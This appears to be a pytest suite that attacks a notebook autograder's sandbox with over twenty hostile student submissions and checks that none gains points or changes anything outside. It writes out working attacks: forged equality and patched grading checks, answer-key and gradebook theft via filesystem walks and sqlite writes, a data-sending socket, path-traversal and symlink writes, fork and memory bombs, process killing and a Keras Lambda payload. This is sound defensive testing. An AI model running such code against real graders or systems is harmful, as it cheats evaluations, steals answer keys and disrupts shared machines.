"""Hostile submissions, graded for real in the sandbox: none earns more than the same answers
without the attack, each gets a recorded outcome, and nothing outside the sandbox changes.

Every attack is an honest baseline (the untouched exercise, or the seed's mistakes) plus code
added to an answer cell, or a notebook changed as a student could change it. The batch runs
with small limits so that the loops, bombs and floods end in seconds. The attacks on the
sandbox and the checks are made on the plain assignment (no Keras, so a kernel starts in a
second); the one that needs a Keras model, on the demo assignment.
"""

from __future__ import annotations

import hashlib
import socket
import threading
from pathlib import Path

import nbformat
import pytest

from .helpers import HIDDEN_MARKER, PLAIN_MISTAKES, answered, exercise, submit

LIMITS = {"memory_mb": 1536, "processes": 256, "disk_mb": 256, "notebook_seconds": 240}
CANARY = "cnncourse-canary.txt"


def _code(lines: str) -> str:
    return lines.strip("\n")


# name -> (baseline, code run in the q2 answer cell after the baseline's answer)
ATTACKS = {
    "forged_eq": (
        "untouched",
        "class Anything:\n    def __eq__(self, other):\n        return "
        "True\n    __hash__ = object.__hash__\nconv_params = Anything()\n"
        "dense_params = Anything()",
    ),
    "int_subclass_eq": (
        "untouched",
        "class Sneaky(int):\n    def __eq__(self, other):\n        "
        "return True\n    __hash__ = int.__hash__\nconv_params = Sneaky(1)\n"
        "dense_params = Sneaky(1)",
    ),
    "patched_checks": (
        "mistakes",
        "from cnncourse import checks\nchecks.number = "
        "lambda *a, **k: checks.Result(True, 'ok')\n"
        "checks.architecture = checks.number",
    ),
    "patched_score": (
        "mistakes",
        "from cnncourse import checks\nchecks.Question.score = "
        "lambda self: 99\nchecks.Question.points = property(lambda self: 99)",
    ),
    "silenced_exceptions": (
        "untouched",
        "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)",
    ),
    "printed_score": (
        "untouched",
        "from IPython.display import display\n"
        "display({'text/plain': '5', "
        "'application/vnd.cnncourse.score+json': "
        "{'points': 5, 'max_points': 5, 'checks': []}}, raw=True)\n"
        "print('5')",
    ),
    "reads_answer_key": (
        "untouched",
        "import os\nfound = []\n"
        "for top in ('/job', '/work', '/root', '/home', '/tmp', '/etc'):\n"
        "    for folder, _, files in os.walk(top):\n"
        "        for name in files:\n"
        "            if name.endswith(('.ipynb', '.db')):\n"
        "                found.append(os.path.join(folder, name))\n"
        "leaked = ''\nfor path in found:\n    try:\n        leaked += "
        "open(path).read()\n    except Exception:\n        pass\n"
        "conv_params = leaked[:100000]",
    ),
    "writes_gradebook": (
        "untouched",
        "import sqlite3, glob\n"
        "for path in glob.glob('/job/**/*.db', recursive=True) + "
        "glob.glob('/work/**/*.db', recursive=True):\n    try:\n"
        "        db = sqlite3.connect(path)\n"
        "        db.execute('update grade set auto_score = 100')\n"
        "        db.commit()\n    except Exception:\n        pass",
    ),
    "network": (
        "untouched",
        "import socket\ns = socket.socket()\ns.settimeout(3)\n"
        "s.connect(('127.0.0.1', PORT))\ns.sendall(b'stolen')",
    ),
    "writes_outside": (
        "untouched",
        "import pathlib\nfor path in ('/tmp/../" + CANARY + "', "
        "'WRITE_TARGET', '/job/../escape.txt'):\n    try:\n"
        "        pathlib.Path(path).write_text('owned')\n    except Exception:\n"
        "        pass",
    ),
    "fork_bomb": (
        "untouched",
        "import os, time\nfor _ in range(10000):\n    try:\n"
        "        if os.fork() == 0:\n            time.sleep(60)\n"
        "            os._exit(0)\n    except OSError:\n        break",
    ),
    "memory_hog": ("untouched", "hog = []\nwhile True:\n    hog.append(bytearray(50_000_000))"),
    "infinite_loop": ("untouched", "while True:\n    pass"),
    "exits_kernel": ("untouched", "import os\nos._exit(0)"),
    "floods_output": ("untouched", "for _ in range(20_000):\n    print('x' * 1000)"),
    "fills_disk": (
        "untouched",
        "with open('big.bin', 'wb') as handle:\n"
        "    for _ in range(1000):\n        handle.write(b'0' * 1_000_000)",
    ),
    "symlink_values": (
        "untouched",
        "import os\nconv_params = 108\n"
        "os.makedirs('/job/out/plain/q2_test', exist_ok=True)\n"
        "os.symlink('SOURCE_NOTEBOOK', '/job/out/plain/q2_test/dense_params.json')",
    ),
    "kills_runner": (
        "untouched",
        "import os, signal\ntry:\n    os.kill(1, signal.SIGKILL)\n"
        "except OSError:\n    pass\nos.system('pkill -9 -f sandboxed')",
    ),
    "lambda_model": ("untouched_demo", None),
}

#: Tampering with the notebook itself (baseline: the seed's mistakes).
TAMPERING = (
    "raised_points",
    "test_made_answer",
    "renamed_grade_id",
    "duplicated_and_reordered",
    "deleted_test_cells",
)


def _sha(root: Path) -> dict[str, str]:
    return {
        path.relative_to(root).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(root.rglob("*"))
        if path.is_file()
    }


def _answer(notebook, grade_id: str, extra: str):
    """The attack after the cell's answer; in place of the stub of an unanswered cell (its
    ``raise NotImplementedError()`` would stop the attack before it runs)."""
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            stub = "raise NotImplementedError" in cell.source
            cell.source = extra if stub else cell.source + "\n" + extra
    return notebook


def _grade_cell(notebook, grade_id):
    return next(
        cell
        for cell in notebook.cells
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id
    )


def _tampered(kind: str, notebook):
    test = _grade_cell(notebook, "q1_test")
    if kind == "raised_points":
        test.metadata["nbgrader"]["points"] = 100
    elif kind == "test_made_answer":
        test.metadata["nbgrader"].update(solution=True, grade=True, locked=False)
        test.source = "print('full marks')"
    elif kind == "renamed_grade_id":
        test.metadata["nbgrader"]["grade_id"] = "q1_test_renamed"
        test.source = "5"
    elif kind == "duplicated_and_reordered":
        notebook.cells.insert(1, nbformat.from_dict(dict(test)))
        notebook.cells.reverse()
    elif kind == "deleted_test_cells":
        notebook.cells = [
            cell for cell in notebook.cells if not cell.metadata.get("nbgrader", {}).get("grade")
        ]
    return notebook


class _Listener:
    """A loopback server that records every connection a submission makes to it."""

    def __init__(self) -> None:
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(5)
        self.socket.settimeout(0.5)
        self.port = self.socket.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                connection, _ = self.socket.accept()
                self.connections += 1
                connection.close()
            except OSError:
                continue

    def close(self) -> None:
        self.running = False
        self.thread.join(timeout=2)
        self.socket.close()


@pytest.fixture(scope="module")
def hostile_batch(demo_course, tmp_path_factory):
    from cnncourse.grading.grade import grade_all

    base = tmp_path_factory.mktemp("hostile")
    outside = base / "outside"
    outside.mkdir()
    (outside / CANARY).write_text("untouched")
    listener = _Listener()
    submissions = base / "submissions"
    source_notebook = demo_course / "solutions" / "plain" / "plain.ipynb"
    students = {
        "baseline_untouched": ("plain", exercise(demo_course, "plain")),
        "baseline_mistakes": ("plain", answered(exercise(demo_course, "plain"), PLAIN_MISTAKES)),
        "baseline_untouched_demo": ("demo", exercise(demo_course, "demo")),
    }
    for name, (baseline, code) in ATTACKS.items():
        if code is None:  # a model whose Lambda layer would run code when loaded
            code = _code(f"""
import keras
from keras import layers
def payload(x):
    try:  # runs when the model is built in the sandbox (no such folder there) and would
        # run again when Keras loaded the model without safe mode, on the grader's side
        open({str(outside / "lambda-ran.txt")!r}, 'w').write('ran')
    except OSError:
        pass
    return x
inputs = keras.Input(shape=(8, 8, 3))
x = layers.Lambda(payload)(inputs)
x = layers.Conv2D(4, (3, 3), padding="same", activation="relu")(x)
x = layers.Flatten()(x)
x = layers.Dropout(0.5)(x)
model = keras.Model(inputs, layers.Dense(2, activation="softmax")(x))""")
            students[name] = ("demo", _answer(exercise(demo_course, "demo"), "q1_model", code))
            continue
        notebook = (
            answered(exercise(demo_course, "plain"), PLAIN_MISTAKES)
            if baseline == "mistakes"
            else exercise(demo_course, "plain")
        )
        code = (
            code.replace("PORT", str(listener.port))
            .replace("WRITE_TARGET", str(outside / CANARY))
            .replace("SOURCE_NOTEBOOK", str(source_notebook))
        )
        students[name] = ("plain", _answer(notebook, "q2_answer", code))
    for kind in TAMPERING:
        students[kind] = (
            "plain",
            _tampered(kind, answered(exercise(demo_course, "plain"), PLAIN_MISTAKES)),
        )
    for student, (assignment, notebook) in students.items():
        submit(submissions, student, assignment, notebook)
    before = {
        "course": _sha(demo_course),
        "outside": _sha(outside),
        "submissions": _sha(submissions),
    }
    try:
        result = grade_all(
            submissions,
            output=base / "grading",
            source=demo_course / "solutions",
            cell_timeout=20,
            limits=LIMITS,
        )
    finally:
        listener.close()
    after = {
        "course": _sha(demo_course),
        "outside": _sha(outside),
        "submissions": _sha(submissions),
    }
    rows = {outcome.student: outcome for outcome in result.outcomes}
    return {
        "rows": rows,
        "before": before,
        "after": after,
        "listener": listener,
        "outside": outside,
        "workdir": base / "grading",
        "students": {student: assignment for student, (assignment, _) in students.items()},
    }


@pytest.mark.slow
def test_there_are_at_least_twenty_hostile_submissions():
    assert len(ATTACKS) + len(TAMPERING) >= 20


@pytest.mark.slow
def test_every_hostile_submission_gets_exactly_one_recorded_outcome(hostile_batch):
    rows = hostile_batch["rows"]
    assert set(rows) == set(hostile_batch["students"])
    journal = sorted(path.name for path in (hostile_batch["workdir"] / "outcomes").glob("*.json"))
    assert journal == sorted(
        f"{student}--{assignment}.json" for student, assignment in hostile_batch["students"].items()
    )


@pytest.mark.slow
@pytest.mark.parametrize("attack", sorted(ATTACKS) + list(TAMPERING))
def test_an_attack_earns_no_more_than_the_same_answers_without_it(hostile_batch, attack):
    rows = hostile_batch["rows"]
    baseline = ATTACKS[attack][0] if attack in ATTACKS else "mistakes"
    honest = rows[f"baseline_{baseline}"].score
    assert rows[attack].score <= honest, (attack, rows[attack])


@pytest.mark.slow
def test_every_attack_ran(hostile_batch):
    """No attack was stopped before it started by the stub of an unanswered cell."""
    for attack, outcome in hostile_batch["rows"].items():
        assert "NotImplementedError" not in outcome.reason or attack.startswith("baseline"), (
            attack,
            outcome.reason,
        )


@pytest.mark.slow
def test_the_baselines_score_what_honest_work_earns(hostile_batch):
    rows = hostile_batch["rows"]
    assert (rows["baseline_untouched"].score, rows["baseline_mistakes"].score) == (0, 2)
    assert rows["baseline_untouched_demo"].score == 0


@pytest.mark.slow
def test_nothing_outside_the_sandbox_changed(hostile_batch):
    assert hostile_batch["after"] == hostile_batch["before"]
    assert not (hostile_batch["outside"] / "lambda-ran.txt").exists()
    assert hostile_batch["listener"].connections == 0


@pytest.mark.slow
def test_the_answer_key_never_reaches_the_sandbox(hostile_batch):
    values = hostile_batch["workdir"] / "phase1" / "reads_answer_key--plain"
    collected = "".join(
        path.read_text(errors="replace") for path in values.rglob("*") if path.is_file()
    )
    assert HIDDEN_MARKER not in collected
    assert "BEGIN HIDDEN TESTS" not in collected


@pytest.mark.slow
def test_runaway_submissions_are_stopped_with_a_reason(hostile_batch):
    rows = hostile_batch["rows"]
    assert rows["infinite_loop"].status == "timeout"
    assert "ran past the 20 s limit" in rows["infinite_loop"].reason
    assert rows["memory_hog"].status == "stopped"
    assert "ran out of its memory limit and was stopped" in rows["memory_hog"].reason
    assert rows["fork_bomb"].status == "stopped"  # at the memory or the process limit
    assert "limit" in rows["fork_bomb"].reason
    assert "the kernel died" in rows["exits_kernel"].reason
    assert "the sandbox ended before the notebook finished" in rows["kills_runner"].reason
    for attack in ("exits_kernel", "kills_runner"):
        assert rows[attack].status == "graded", rows[attack]


@pytest.mark.slow
def test_tampering_is_reported(hostile_batch):
    rows = hostile_batch["rows"]
    assert "points were changed from 3 to 100" in rows["raised_points"].reason
    assert "grading metadata was changed" in rows["test_made_answer"].reason
    assert "q1_test_renamed" in rows["renamed_grade_id"].reason
    assert "reordered" in rows["duplicated_and_reordered"].reason
    assert "cell q1_test was deleted" in rows["deleted_test_cells"].reason
    for kind in TAMPERING:
        assert rows[kind].status == "tampered", rows[kind]
        assert rows[kind].score == rows["baseline_mistakes"].score


@pytest.mark.slow
def test_a_lambda_model_is_refused_by_safe_mode(hostile_batch):
    details = (hostile_batch["workdir"] / "outcomes" / "lambda_model--demo.json").read_text()
    assert "model could not be read back as model" in details
    assert "a Lambda layer), which the grader never runs: Keras' safe mode refuses it" in details
    assert hostile_batch["rows"]["lambda_model"].score == 0
